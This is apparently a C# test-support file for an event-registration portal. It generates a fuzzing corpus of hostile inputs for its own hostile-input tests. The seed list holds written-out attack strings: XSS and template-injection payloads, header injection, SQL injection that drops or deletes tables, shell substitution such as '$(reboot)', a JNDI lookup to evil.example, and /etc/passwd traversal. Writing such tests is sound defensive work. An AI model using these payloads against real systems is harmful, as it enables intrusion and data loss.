using System.Globalization;
using System.Text;
using EventPortal.Tests.Registrations;

namespace EventPortal.Tests.Proof;

/// <summary>
/// Hostile values for the generated hostile-input test: a seed corpus (the hand-written cases of
/// <see cref="HostileInputInFields"/> and <see cref="HostileInputInRequests"/> plus the classes
/// below) mutated by a seeded random generator, so a failure names a seed and an index that
/// reproduce it. Markup payloads carry a canary (<c>x-fz</c> elements, <c>on…</c> handlers) that
/// the reflection check looks for in the DOM.
/// </summary>
public static class HostileCorpus
{
    /// <summary>Seeds by class; the first ones come from the hand-written hostile tests.</summary>
    public static IReadOnlyList<string> Seeds { get; } = BuildSeeds();

    static List<string> BuildSeeds()
    {
        var seeds = new List<string>();
        foreach (var row in (IEnumerable<object[]>)HostileInputInFields.FieldCases())
            if (row[0] is HostileInputInFields.Case { Value: string s } && s.Length < 5000) seeds.Add(s);
        foreach (var row in (IEnumerable<object[]>)HostileInputInRequests.RawApiCases())
            if (row[2] is string body && body.Length < 1000) seeds.Add(body);
        seeds.AddRange(
        [
            // markup and script
            "<x-fz>", "<x-fz onmouseover=alert(1)>", "\"><x-fz onfocus=alert(1) autofocus>", "'><x-fz onclick='alert(1)'>",
            "<script>alert(document.domain)</script>", "</title><x-fz>", "</textarea><x-fz>", "</script><x-fz>",
            "<svg/onload=alert(1)>", "<img src=x onerror=alert(1)>",
            "<iframe src=javascript:alert(1)>", "<a href=\"javascript:alert(1)\">x</a>",
            "javascript:alert(1)", "data:text/html,<x-fz>", "\" onmouseover=\"alert(1)",
            "' onmouseover='alert(1)", "` onmouseover=alert(1) `",
            "<!--", "-->", "<![CDATA[<x-fz>]]>", "<style>*{}</style>", "&lt;x-fz&gt;",
            "&#60;x-fz&#62;", "&quot;&apos;", "{{constructor.constructor('alert(1)')()}}",
            "@{ throw null; }", "@(1+1)", "<%= 7*7 %>", "#{7*7}", "${{7*7}}",
            // header and line injection
            "\r\nBcc: victim@example.com", "\nSet-Cookie: fz=1", "\rX-Injected: 1",
            "%0d%0aLocation: https://evil.example", "\u2028\u2029", "\u0085",
            "a@example.jp\r\nSubject: spam", "=?utf-8?b?PHgtZno+?=",
            // SQL and other interpreters
            "' OR 1=1 --", "'; SELECT pg_sleep(10); --", "1; DROP TABLE outbox", "\\'; DELETE FROM registrations; --",
            "\" OR \"\"=\"", "') UNION SELECT token_seed FROM registrations --",
            "%s%s%s%n", "{0}{1}", "$(reboot)", "`id`", "|| ls",
            "${jndi:ldap://evil.example/a}", "=cmd|' /C calc'!A0", "+SUM(1,1)", "@SUM(1)",
            // paths and URLs
            "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini",
            "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f", "....//....//", "/etc/passwd\u0000.png",
            "//evil.example", "/\\evil.example", "https://evil.example/", "\\\\evil.example\\share", "/%09/evil.example", "/.",
            // numbers out of range and wrong shapes
            "-1", "0", "-0", "2147483648", "-2147483649", "9223372036854775808", "99999999999999999999999999",
            "1e309", "-1e309", "NaN", "Infinity", "0x7fffffff", "1.7976931348623157E+309", "00000000001",
            "true", "false", "null", "[]", "{}", "[[[[[[[[[[]]]]]]]]]]", "{\"a\":{\"b\":{\"c\":{}}}}",
            // Unicode
            "\u0000", "\u0001\u0002\u001b[31m", "\u007f", "\ufeffBOM", "\u200b\u200c\u200d\u2060",
            "\u202egnp.exe", "\u2066\u2067\u2068\u2069", "\u200e\u200f\u061c",
            "ｓｃｒｉｐｔ", "＜x-fz＞", "＂＞＜x-fz＞", "ℌ𝔢𝔩𝔩𝔬", "Ａｄｍｉｎ", "аdmin@ехаmple.jp", "ΑΒΓ", "𠮷野家", "👨‍👩‍👧‍👦", "🇯🇵", "ﾔﾏﾀﾞ", "ｶﾞ",
            "e\u0301\u0301\u0301\u0301\u0301", "Z\u0351\u0352\u0353\u0354\u0355\u0356",
            "\ud83d", "\udc00", "\uffff\ufffe", "\U000E0041\U000E0042",
            "السلام عليكم", "שלום", "髙橋", "ﷺ", "\u3000全角空白\u3000",
            // e-mail shapes
            "a@b.c", "\"a b\"@example.jp", "a@[127.0.0.1]", "a@localhost",
            "a@example.jp,b@example.jp", "a@example.jp\u0000b@example.jp", "a+tag@example.jp",
            "very.long." + new string('x', 250) + "@example.jp", "x@" + new string('a', 64) + ".jp", "postmaster", "@", "a@@b.jp",
        ]);
        return seeds.Distinct(StringComparer.Ordinal).ToList();
    }

    static readonly string[] Invisible = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e"];
    static readonly string[] Bidi =
        ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u061c"];
    static readonly string[] Controls =
        ["\u0000", "\u0001", "\u0008", "\u000b", "\u000c", "\u001b", "\u007f", "\u0085", "\r", "\n", "\r\n", "\t"];
    static readonly string[] Injections =
    [
        "\r\nBcc: victim@example.com", "\r\nSet-Cookie: fz=1", "\n\n<x-fz>",
        "%0d%0aX-Fz: 1", "\"><x-fz onmouseover=alert(1)>", "' OR '1'='1", "</x-fz><x-fz>"
    ];
    static readonly Dictionary<char, char> Confusables = new()
    {
        ['a'] = 'а', ['e'] = 'е', ['o'] = 'о', ['p'] = 'р', ['c'] = 'с', ['x'] = 'х', ['y'] = 'у',
        ['i'] = 'і', ['s'] = 'ѕ', ['A'] = 'Α', ['B'] = 'Β', ['E'] = 'Ε', ['H'] = 'Η',
        ['<'] = '‹', ['>'] = '›', ['/'] = '⁄', ['@'] = '＠', ['.'] = '․', ['-'] = '‐',
    };
    static readonly int[] Lengths = [49, 50, 51, 99, 100, 101, 254, 255, 256, 1999, 2000, 2001, 4097, 70_000];

    /// <summary>The mutations, each named for the failure message.</summary>
    static readonly (string Name, Func<Random, string, string> Apply)[] Mutations =
    [
        ("as is", (_, s) => s),
        ("inside a name", (_, s) => "山田" + s + "花子"),
        ("two seeds", (r, s) => s + Seeds[r.Next(Seeds.Count)]),
        ("zero-width", (r, s) => Insert(r, s, Invisible[r.Next(Invisible.Length)], 1 + r.Next(3))),
        ("bidi", (r, s) => Insert(r, s, Bidi[r.Next(Bidi.Length)], 1 + r.Next(2))),
        ("control", (r, s) => Insert(r, s, Controls[r.Next(Controls.Length)], 1)),
        ("injection", (r, s) => Insert(r, s, Injections[r.Next(Injections.Length)], 1)),
        ("full-width", (_, s) => new string(s.Select(c => c is > ' ' and <= '~' ? (char)(c - 0x21 + 0xFF01) : c).ToArray())),
        ("confusables", (_, s) => new string(s.Select(c => Confusables.GetValueOrDefault(c, c)).ToArray())),
        ("oversized", (r, s) => Repeat(s.Length == 0 ? "x" : s, Lengths[r.Next(Lengths.Length)])),
        ("decomposed", (_, s) => Nfd(s) + "\u0301\u0308"),
        ("case", (r, s) => new string(s.Select(c => r.Next(2) == 0 ? char.ToUpperInvariant(c) : char.ToLowerInvariant(c)).ToArray())),
        ("percent-encoded", (_, s) => Uri.EscapeDataString(s)),
        ("double-encoded", (_, s) => Uri.EscapeDataString(Uri.EscapeDataString(s))),
        ("entities", (_, s) => string.Concat(s.Select(c => c is '<' or '>' or '"' ? $"&#{(int)c};" : c.ToString()))),
        ("cut", (r, s) => s.Length < 2 ? s : s[..(1 + r.Next(s.Length - 1))]),
        ("quoted", (r, s) => r.Next(2) == 0 ? "\"" + s + "\"" : "'" + s),
        ("astral", (r, s) => Insert(r, s, r.Next(2) == 0 ? "𠮷" : "👨‍👩‍👧", 1)),
        ("padded", (_, s) => " \t\u3000" + s + "\u3000 "),
        ("number", (r, s) => (r.Next(4) switch { 0 => "-", 1 => "1e", 2 => "0.", _ => "" }) + new string('9', 1 + r.Next(40)) + s),
    ];

    /// <summary>
    /// <paramref name="count"/> distinct hostile values from <paramref name="seed"/>: every seed
    /// as it is first, then random seeds through one or two random mutations.
    /// </summary>
    public static List<(string Value, string Origin)> Generate(int count, int seed)
    {
        var random = new Random(seed);
        var values = new List<(string, string)>();
        var seen = new HashSet<string>(StringComparer.Ordinal);
        for (var i = 0; i < Seeds.Count && values.Count < count; i++)
            if (seen.Add(Seeds[i])) values.Add((Seeds[i], $"seed {i}"));
        while (values.Count < count)
        {
            var index = random.Next(Seeds.Count);
            var (name, apply) = Mutations[random.Next(Mutations.Length)];
            var value = apply(random, Seeds[index]);
            var origin = $"seed {index} {name}";
            if (random.Next(3) == 0)
            {
                var (name2, apply2) = Mutations[random.Next(Mutations.Length)];
                value = apply2(random, value);
                origin += " + " + name2;
            }
            if (seen.Add(value)) values.Add((value, origin));
        }
        return values;
    }

    /// <summary>NFD where .NET can (it refuses noncharacters such as U+FFFE and lone surrogates).</summary>
    static string Nfd(string s)
    {
        try { return s.Normalize(NormalizationForm.FormD); }
        catch (ArgumentException) { return s; }
    }

    static string Insert(Random r, string s, string what, int times)
    {
        for (var i = 0; i < times; i++)
        {
            var at = r.Next(s.Length + 1);
            s = s[..at] + what + s[at..];
        }
        return s;
    }

    static string Repeat(string s, int length)
    {
        var b = new StringBuilder(length + s.Length);
        while (b.Length < length) b.Append(s);
        return b.ToString(0, length);
    }

    /// <summary>Shown in a failure message: short, every non-printable character visible.</summary>
    public static string Show(string value)
    {
        var shown = new StringBuilder();
        foreach (var rune in (value.Length > 120 ? value[..120] : value).EnumerateRunes())
            shown.Append(Rune.IsControl(rune) || Rune.GetUnicodeCategory(rune) is UnicodeCategory.Format or UnicodeCategory.Surrogate
                ? $"\\u{rune.Value:X4}" : rune.ToString());
        return $"\"{shown}\"" + (value.Length > 120 ? $"… ({value.Length} chars)" : "");
    }
}
